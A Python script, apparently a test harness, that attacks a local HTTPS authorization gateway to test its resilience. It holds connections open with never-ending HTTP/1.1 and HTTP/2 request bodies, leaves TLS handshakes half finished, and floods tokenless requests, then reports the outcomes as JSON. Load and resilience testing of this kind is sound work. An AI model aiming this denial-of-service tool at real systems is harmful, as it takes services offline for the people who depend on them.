#!/usr/bin/env python3
"""Attack the gateway until standard input ends: hold places with requests that never end, and open new connections all the time.

attack.py SOURCE ... [--tokenless] [--held BODIES]: from these addresses, which are denied; with --tokenless they are listed and have no token. Prints a line
once all that is to be held was tried, then 137 connections a second follow, a quarter of them handshakes that do not end. Prints what became of it as JSON.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from typing import Protocol

import h2.config
import h2.connection
from wire import HOST, Network, context, over_h2

CONNECTIONS, STREAMS, RATE, AT_ONCE, FLOODERS = 5, 200, 137, 40, 8
HALF_A_HANDSHAKE = b"\x16\x03\x01\x02\x00\x01"
H1, H2 = context("http/1.1"), context("h2")
Pair = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Attack:
    """What it tries, and what became of it by kind."""

    def __init__(self, sources: list[str], tokenless: bool, held: int) -> None:
        self.sources, self.tokenless, self.held = itertools.cycle(sources), tokenless, held
        self.counted: Counter[str] = Counter()
        self.gate = asyncio.Semaphore(AT_ONCE)
        self.tasks: set[asyncio.Task[None]] = set()

    async def connect(self, kind: str) -> Pair:
        tls = {"h2": H2, "half": None}.get(kind, H1)
        async with self.gate, asyncio.timeout(5):
            return await asyncio.open_connection("127.0.0.1", 443, ssl=tls, server_hostname=HOST if tls else None, local_addr=(next(self.sources), 0))

    def head(self) -> bytes:
        head = "POST /token" if self.tokenless else "GET /authorize"
        return f"{head} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\nx".encode()

    def streams(self) -> bytes:
        """Return requests of one connection whose bodies never end, nor begin."""
        talk = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False))
        talk.initiate_connection()
        for number in range(STREAMS):
            talk.send_headers(1 + 2 * number, over_h2("/token", "POST") if self.tokenless else over_h2("/authorize"))
        return talk.data_to_send()

    async def hold(self, kind: str) -> None:
        """Open a connection, send what never ends, and keep it until the other end closes it."""
        try:
            reader, writer = await self.connect(kind)
        except (OSError, TimeoutError) as error:
            self.counted[f"{kind}: {type(error).__name__}"] += 1
            return
        self.counted[f"{kind}: connected"] += 1
        with contextlib.suppress(OSError):
            writer.write({"half": HALF_A_HANDSHAKE, "h2": self.streams()}.get(kind) or self.head())
            while await reader.read(65536):
                pass
        self.counted[f"{kind}: closed"] += 1
        writer.close()

    async def flood(self) -> None:
        """Send one request after the other without a token, on a connection that is kept as long as it may be."""
        while True:
            try:
                reader, writer = await self.connect("flood")
                while True:
                    writer.write(f"GET {'/' if self.tokenless else '/authorize'} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
                    head = await reader.readuntil(b"\r\n\r\n")
                    self.counted[f"flood: {head.split()[1].decode()}"] += 1
                    await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].split(b"\r\n")[0]))
            except (OSError, TimeoutError, asyncio.IncompleteReadError):
                self.counted["flood: closed"] += 1
                await asyncio.sleep(0.1)  # how often to try, not a condition

    def begin(self, kind: str) -> None:
        task = asyncio.create_task(self.hold(kind))
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    async def run(self) -> None:
        ended = asyncio.create_task(asyncio.to_thread(sys.stdin.read))
        for kind in ["h2"] * CONNECTIONS + ["body"] * self.held:
            self.begin(kind)
        flooders = [asyncio.create_task(self.flood()) for _ in range(FLOODERS)]
        tried = ("connected", "Error")
        while sum(count for name, count in self.counted.items() if not name.startswith("flood") and name.endswith(tried)) < self.held:
            await asyncio.sleep(0.05)
        print("held", flush=True)
        start = time.monotonic()
        for number in itertools.count():
            if ended.done():
                break
            self.begin("half" if number % 4 == 0 else "body")
            await asyncio.sleep(max(0, start + number / RATE - time.monotonic()))
        for each in [*flooders, *self.tasks]:
            each.cancel()
        print(json.dumps(self.counted | {"new connections/s": round(number / (time.monotonic() - start))}))


class Host(Protocol):
    """What an attack needs of a host."""

    network: Network


@contextlib.contextmanager
def attacked(host: Host, sources: list[str], tokenless: bool = False, held: int = 1200) -> Iterator[dict[str, int]]:
    """Attack a host from a process of its own, once all that is to be held was tried; what became of it is there afterwards."""
    found: dict[str, int] = {}
    command = [sys.executable, __file__, *sources, f"--held={held}", *(["--tokenless"] if tokenless else [])]
    with host.network.entered():
        process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert process.stdin
    assert process.stdout
    try:
        assert process.stdout.readline() == "held\n"
        yield found
    finally:
        process.stdin.close()
        found |= json.loads(process.stdout.read() or "{}")
        process.wait()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("sources", nargs="+")
    parser.add_argument("--held", type=int, default=1200, metavar="BODIES")
    parser.add_argument("--tokenless", action="store_true")
    arguments = parser.parse_args()
    asyncio.run(Attack(arguments.sources, arguments.tokenless, arguments.held).run())


if __name__ == "__main__":
    main()
